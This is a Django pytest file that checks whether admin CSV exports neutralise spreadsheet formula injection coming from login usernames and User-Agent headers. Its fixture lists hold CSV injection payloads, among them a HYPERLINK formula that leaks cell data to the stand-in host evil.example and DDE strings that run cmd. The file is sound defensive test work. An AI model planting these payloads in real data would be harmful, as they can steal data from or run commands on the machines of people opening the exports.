"""CSV injection: what an anonymous client typed reaches every export as text, never a formula.

A failed login's username and any client's User-Agent are stored as sent and shown to staff,
who open the exports in a spreadsheet. The attack is replayed through the API, synced to
PostgreSQL as in production, and every cell of every export is checked.
"""

import csv
import io

import pytest
from django.contrib import admin
from django.contrib.auth.models import Permission
from django.urls import URLPattern, URLResolver, reverse

from accounts.tests.helpers import bearer, login
from accounts.tracking import tracker
from analytics import services as analytics_services
from audit import services as audit_services

pytestmark = pytest.mark.django_db

# What a spreadsheet evaluates: =, +, -, @ and, in some, a leading tab or carriage return.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_USERNAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
]
HOSTILE_AGENTS = [
    "+1+cmd|' /C calc'!A0",
    "=1+1",
    "@SUM(1,2)",
    "-2+3",
    "\t=cmd|' /C calc'!A0",
    "\r=cmd|' /C calc'!A0",
]


def csv_export_names() -> list[str]:
    """Every admin URL serving a CSV, found in the URLconf (a new export is checked too)."""
    names = []

    def walk(patterns, namespace):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, pattern.namespace or namespace)
            elif isinstance(pattern, URLPattern) and pattern.name and "csv" in pattern.name:
                names.append(f"{namespace}:{pattern.name}")

    urls, _app, namespace = admin.site.urls
    walk(urls, namespace)
    return sorted(set(names))


@pytest.fixture
def hostile_traffic(api_client, django_user_model, password):
    # A real account whose device sends a hostile User-Agent: live sessions, session history,
    # power users and user activity carry it; an account named by an administrator after a
    # formula (usernames may contain - and +) and one with such an e-mail, never active.
    user = django_user_model.objects.create_user(username="-2+3", password=password)
    django_user_model.objects.create_user(
        username="idle", email="=1+2@example.com", password=password
    )
    for agent in HOSTILE_AGENTS:
        tokens = login(api_client, user.username, password, HTTP_USER_AGENT=agent).json()
        assert api_client.get("/api/me/", **bearer(tokens["access"])).status_code == 200
    for username in HOSTILE_USERNAMES:
        for agent in HOSTILE_AGENTS:
            response = login(api_client, username, "wrong", HTTP_USER_AGENT=agent)
            assert response.status_code in (401, 429)
    assert tracker.flush()
    audit_services.sync_run()
    analytics_services.analytics_refresh()


def test_every_export_is_found():
    names = csv_export_names()
    assert "admin:analytics_live_sessions_csv" in names
    assert "admin:audit_auditevent_export_csv" in names
    assert "admin:analytics_suspiciousip_export_csv" in names
    assert len(names) == 7  # 6 report changelists + live sessions


def test_no_cell_of_any_export_is_a_formula(client, django_user_model, hostile_traffic):
    staff = django_user_model.objects.create_user(
        username="analyst", password="pw-analyst", is_staff=True
    )
    staff.user_permissions.add(Permission.objects.get(codename="view_analytics"))
    client.force_login(staff)
    exported = {}
    for name in csv_export_names():
        response = client.get(reverse(name))
        assert response.status_code == 200, name
        assert response["Content-Type"].startswith("text/csv"), name
        text = b"".join(response.streaming_content).decode()
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len(rows) > 1, name
        for row in rows:
            for cell in row:
                assert not cell.startswith(TRIGGERS), (name, cell)
        exported[name] = {cell for row in rows for cell in row}

    # The payloads did reach the exports, neutralised, not dropped.
    events = exported["admin:audit_auditevent_export_csv"]
    for username in HOSTILE_USERNAMES:
        assert "'" + username in events
    # One row per address: its user agents share a cell, one a line; the cell is text.
    [agents] = [
        cell for cell in exported["admin:analytics_suspiciousip_export_csv"] if "\n" in cell
    ]
    assert agents.startswith("'") and set(agents[1:].split("\n")) == set(HOSTILE_AGENTS)
    for agent in HOSTILE_AGENTS:
        assert "'" + agent in events
        assert "'" + agent in exported["admin:analytics_live_sessions_csv"]
        assert "'" + agent in exported["admin:audit_auditsession_export_csv"]
    assert "'-2+3" in exported["admin:analytics_poweruser_export_csv"]
    assert "'-2+3" in exported["admin:analytics_useractivity_export_csv"]
    assert "'=1+2@example.com" in exported["admin:analytics_idleuser_export_csv"]
